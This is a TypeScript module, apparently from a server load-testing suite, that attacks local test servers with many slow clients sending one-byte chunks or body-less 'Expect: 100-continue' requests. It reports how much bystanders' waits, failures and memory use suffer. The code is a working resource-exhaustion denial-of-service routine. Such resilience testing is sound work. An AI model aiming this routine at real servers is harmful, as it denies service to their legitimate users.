/** Attack by clients that cause much work with few bytes. They send chunks of one byte, or requests with `Expect: 100-continue`. */
import { type Socket, connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { meanwhile } from './bystanders.ts';
import { type Target, against, peakOfAll } from './program.ts';

const SECONDS = 5;
const INTERVAL_MS = 100;

interface Sent {
  readonly begin: string;
  /** Text that is sent again and again, at intervals. */
  readonly again: string;
}

const POST = 'POST /api/v1/validate/bulk HTTP/1.1\r\nHost: a\r\n';
const CHUNKS: Sent = { begin: `${POST}Transfer-Encoding: chunked\r\n\r\n`, again: '1\r\nx\r\n'.repeat(2_000) };
/** A request whose body never comes. Each head after the first one therefore waits. */
const EXPECT: Sent = { begin: '', again: `${POST}Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{}`.repeat(200) };

const tinyParts = ({ begin, again }: Sent, clients: number) => (target: Target): Promise<string> =>
  against(target, async (attacked) => {
    let isOver = false;
    let closed = 0;
    /** Opens a connection. When it is closed, opens another one. */
    const open = (): Socket => {
      const socket = connect(attacked.port, '127.0.0.1', () => socket.write(begin));
      const timer = setInterval(() => {
        if (isOver) socket.destroy();
        else if (socket.writableLength < again.length) socket.write(again);
      }, INTERVAL_MS);
      return socket.on('error', () => undefined).resume().on('close', () => {
        clearInterval(timer);
        if (isOver) return;
        closed++;
        open();
      });
    };
    const peak = peakOfAll(attacked);
    const { kept, fresh, failures } = await meanwhile(attacked, async () => {
      for (let i = 0; i < clients; i++) open();
      await sleep(SECONDS * 1_000);
      isOver = true;
      await sleep(INTERVAL_MS * 2);
    });
    const wait = Math.max(kept.clock, fresh.clock).toFixed(0);
    const processor = Math.max(kept.processor, fresh.processor).toFixed(0);
    const memory = `${peak().toFixed(0)} MiB`;
    return `others wait ${wait} ms (${processor} of its processor time) and fail ${failures} times, ${memory}, ${closed} closed`;
  });

export const TINY_PARTS: Readonly<Record<string, (target: Target) => Promise<string>>> = Object.fromEntries(
  [10, 50, 500].flatMap((clients) => [
    [`chunks of one byte from ${clients} clients`, tinyParts(CHUNKS, clients)],
    [`Expect: 100-continue from ${clients} clients`, tinyParts(EXPECT, clients)],
  ]),
);
